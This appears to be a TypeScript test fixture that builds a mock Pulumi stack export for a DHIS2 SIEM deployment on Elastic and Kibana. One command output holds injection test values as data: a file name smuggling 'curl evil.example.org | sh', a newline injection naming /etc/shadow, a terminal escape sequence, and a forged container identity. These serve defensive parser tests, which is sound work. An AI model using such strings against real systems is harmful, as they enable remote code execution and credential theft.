/** A stack's state as `pulumi stack export --show-secrets` writes it, as far as it is read. */

const SECRET = "4dabf18193072939515e22adb298388d";
const secret = (value: unknown) => ({
  [SECRET]: "1b47061264138c4ac30d75fd1eb44270",
  plaintext: JSON.stringify(value),
});

export function exportedStack({ relay = false, ca = "PEM\n" } = {}): string {
  const resource = (type: string, name: string, outputs: object) => ({
    urn: `urn:pulumi:prod::dhis2-siem::${type}::${name}`,
    type,
    custom: true,
    inputs: {},
    outputs,
  });
  const command = (name: string, stdout: unknown) =>
    resource("command:remote:Command", name, { stdin: secret("bundle"), stdout, stderr: "siem: done" });
  const lines = (...all: object[]) => all.map((line) => JSON.stringify(line)).join("\n");
  return JSON.stringify({
    version: 3,
    deployment: {
      resources: [
        resource("pulumi:pulumi:Stack", "dhis2-siem-prod", {
          elasticPassword: secret("s3cret"),
          dataStream: "logs-dhis2-default",
          alertIndex: "alerts-dhis2-default",
        }),
        command("siem-container", "192.168.0.200"),
        command(
          "elastic-servers",
          secret(
            lines(
              { ca, fingerprint: "ff", clusterUuid: "c" },
              { file: "/etc/kibana/kibana.yml", sha256: "bb" },
              { container: "siem", uuid: "u-siem" },
            ),
          ),
        ),
        command("elastic-cluster-info", lines({ ca, fingerprint: "ff", clusterUuid: "c" })),
        command(
          "agent-dhis-settings",
          lines(
            // A container's own facts prove nothing; LXD's line comes last.
            { ca: "another", container: "siem", uuid: "u-forged" },
            { file: "/etc/filebeat/filebeat.yml", sha256: "aa" },
            { file: "/etc/x; curl evil.example.org | sh", sha256: "aa" },
            { file: "/etc/x\nsiem /etc/shadow", sha256: "aa" },
            { file: "/etc/\u001b[2Jx", sha256: "aa" },
            { container: "dhis", uuid: "u-dhis" },
          ),
        ),
        command("logs-stream", lines({ container: "siem", uuid: "u-siem" })),
        command("agent-dhis-start", lines({ container: "dhis", uuid: "u-dhis" })),
        resource(
          "elasticstack:index/elasticsearchSecurityApiKey:ElasticsearchSecurityApiKey",
          "agent-dhis-key",
          {
            name: "dhis2-siem-agent-dhis",
            keyId: "id-dhis",
            apiKey: secret("the key"),
            metadata: '{"container":"dhis","site":"dhis2.example.org"}',
          },
        ),
        resource("elasticstack:index/kibanaAlertingRule:KibanaAlertingRule", "rules-one", {
          ruleId: "r1",
          name: "A rule",
        }),
        resource(
          "elasticstack:index/elasticsearchIndexTemplate:ElasticsearchIndexTemplate",
          "logs-template",
          {
            name: "logs-dhis2-default",
            template: {
              settings: '{"index":{"final_pipeline":"dhis2-siem-default-logs"}}',
              lifecycle: { dataRetention: "90d" },
            },
          },
        ),
        ...(relay ? [resource("dhis2-siem:index:AlertRelay", "relay", {})] : []),
      ],
    },
  });
}
